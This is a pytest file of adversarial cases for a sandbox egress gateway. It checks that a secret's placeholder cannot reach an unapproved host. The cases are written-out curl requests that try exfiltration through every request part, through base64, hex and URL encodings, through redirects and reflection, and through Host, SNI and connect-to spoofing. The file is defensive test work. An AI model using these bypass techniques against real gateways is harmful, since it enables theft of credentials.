"""Placeholder misuse: a session's placeholder in every part of a request toward a host it is not
approved for, in encodings, in the wrong part, truncated, another session's, carried by a redirect,
reflected by the origin, and agentcage's Host-spoof injection (Host: the approved name, SNI or address
of another). The real value must reach no origin but the approved one, and never the sandbox.
"""

from __future__ import annotations

import base64
import secrets
import urllib.parse

import pytest
import yaml

from advcase import Case, curl, params, refused, run_case

REAL = "sk-proj-" + secrets.token_hex(20)

RULES = """
- name: allowed
  hosts: [{matchName: allowed.test}, {matchName: other.test}]
  ports: [80, 443]
"""

NOT_APPROVED = {"decision": "deny", "reason": "placeholder-not-approved", "alert": True}
OTHER = "https://other.test/echo/MARK"


@pytest.fixture(scope="module")
def gateway_env():
    return {"EGW_ADV_KEY": REAL}


@pytest.fixture(scope="module")
def secrets_file(gateway):
    path = gateway.dir / "adv-secrets.yaml"
    path.write_text(yaml.safe_dump([
        {"name": "KEY", "source": "env://EGW_ADV_KEY", "hosts": [{"matchName": "allowed.test"}],
         "parts": ["headers"]},
    ]))
    return path


@pytest.fixture(scope="module")
def boxes(sandboxes, secrets_file):
    return sandboxes.up(RULES, "enforce", "--secrets", str(secrets_file)), \
        sandboxes.up(RULES, "enforce", "--secrets", str(secrets_file))


def forms(ph: str) -> dict[str, str]:
    return {
        "PH": ph,
        "PH_B64": base64.b64encode(ph.encode()).decode(),
        "PH_HEX": ph.encode().hex(),
        "PH_URL": "".join(f"%{b:02x}" for b in ph.encode()),
        "PH_HALF": ph[: len(ph) // 2],
        "PH_REV": ph[::-1],
    }


CASES = [
    # every part of a request, toward a host the placeholder is not approved for
    Case("header-to-other", curl(OTHER, "-H", "Authorization: Bearer {PH}"), {"host": "other.test"}, NOT_APPROVED),
    Case("path-to-other", curl("https://other.test/echo/MARK/{PH}"), {"host": "other.test"}, NOT_APPROVED),
    Case("query-to-other", curl(OTHER + "?k={PH}"), {"host": "other.test"}, NOT_APPROVED),
    Case("cookie-to-other", curl(OTHER, "-H", "Cookie: a=1; s={PH}"), {"host": "other.test"}, NOT_APPROVED),
    Case("form-to-other", curl(OTHER, "--data", "k={PH}&n=1"), {"host": "other.test"}, NOT_APPROVED),
    Case("json-to-other", curl(OTHER, "-H", "Content-Type: application/json", "--data", '{"k": "{PH}"}'),
         {"host": "other.test"}, NOT_APPROVED),
    Case("multipart-to-other", curl(OTHER, "-F", "k={PH}", "-F", "n=1"), {"host": "other.test"}, NOT_APPROVED),
    Case("h2-header-to-other", curl("--http2", OTHER, "-H", "X-Key: {PH}"), {"host": "other.test"}, NOT_APPROVED),
    Case("plain-http-to-other", curl("http://other.test/echo/MARK", "-H", "X-Key: {PH}"), {"host": "other.test"},
         NOT_APPROVED),
    # encodings of the placeholder
    Case("url-encoded-to-approved", curl("https://allowed.test/echo/MARK", "-H", "X-Key: {PH_URL}"), {},
         refused("placeholder-encoded")),
    Case("base64-to-approved", curl("https://allowed.test/echo/MARK", "-H", "X-Key: {PH_B64}"), {},
         refused("placeholder-encoded", "exfiltration")),
    Case("hex-to-approved", curl("https://allowed.test/echo/MARK", "-H", "X-Key: {PH_HEX}"), {},
         refused("placeholder-encoded", "exfiltration")),
    Case("url-encoded-to-other", curl(OTHER + "?k={PH_URL}"), {}, refused()),
    Case("base64-to-other", curl(OTHER, "-H", "X-Key: {PH_B64}"), {}, refused()),
    # wrong part (KEY is approved for headers only), truncated, another session's
    Case("query-of-approved", curl("https://allowed.test/echo/MARK?k={PH}"), {}, refused("placeholder-wrong-part")),
    Case("body-of-approved", curl("https://allowed.test/echo/MARK", "--data", "k={PH}"), {},
         refused("placeholder-wrong-part")),
    Case("truncated-placeholder", curl("https://allowed.test/echo/MARK", "-H", "X-Key: {PH_HALF}"), {},
         refused("placeholder-partial")),
    Case("other-sessions-placeholder", curl("https://allowed.test/echo/MARK", "-H", "X-Key: {OTHER_PH}"), {},
         refused("placeholder-foreign")),
    # redirects: the approved origin redirects elsewhere; a careless client follows with its credentials
    Case("redirect-carries-header", curl("https://allowed.test/redirect?to=https://other.test/echo/redirected",
                                         "--location-trusted", "-H", "Authorization: Bearer {PH}"),
         {"host": "other.test"}, NOT_APPROVED, arrives=True),
    Case("redirect-to-plain-http", curl("https://allowed.test/redirect?to=http://other.test/echo/redirected",
                                        "--location-trusted", "-H", "Authorization: Bearer {PH}"),
         {"host": "other.test"}, NOT_APPROVED, arrives=True),
    # reflection: the approved origin echoes the request; the sandbox must get its placeholder back
    Case("reflected-by-approved-origin", curl("https://allowed.test/echo", "-H", "X-Key: {PH}"),
         {"host": "other.test"}, {"decision": "allow", "dest_host": "allowed.test", "secrets": lambda s: bool(s)},
         arrives=True),
    # agentcage's Host spoof: Host names the approved host, the connection goes to another
    Case("host-spoof-sni-other", curl("https://other.test/echo/MARK", "-H", "Host: allowed.test", "-H", "X-Key: {PH}"),
         {"local_addr": "198.18.1.11"}, refused("sni-host-mismatch")),
    Case("host-spoof-plain-other-ip", curl("http://198.18.1.11/echo/MARK", "-H", "Host: allowed.test",
                                           "-H", "X-Key: {PH}"), {"local_addr": "198.18.1.11"},
         {"decision": "allow", "dest_host": "allowed.test", "dest_ip": "198.18.1.10"}, arrives=True,
         note="plain HTTP is routed by its Host: the value goes to allowed.test, never to 198.18.1.11"),
    Case("host-spoof-connect-to-other", curl("https://allowed.test/echo", "--connect-to",
                                             "allowed.test:443:other.test:443", "-H", "X-Key: {PH}"),
         {"local_addr": "198.18.1.11"}, {"decision": "allow", "dest_host": "allowed.test", "dest_ip": "198.18.1.10"},
         arrives=True, note="the gateway dials the name, not the sandbox's address: the value goes to allowed.test"),
]


@pytest.mark.parametrize("case", params(CASES))
def test_placeholder_misuse_is_refused(case, boxes, lab, leak_counter):
    box, other = boxes
    subst = {**forms(box.env["KEY"]), "OTHER_PH": other.env["KEY"]}
    secret_forms = (REAL, base64.b64encode(REAL.encode()).decode(), urllib.parse.quote(REAL))
    run_case(case, box, lab, leak_counter, subst, secrets=secret_forms)
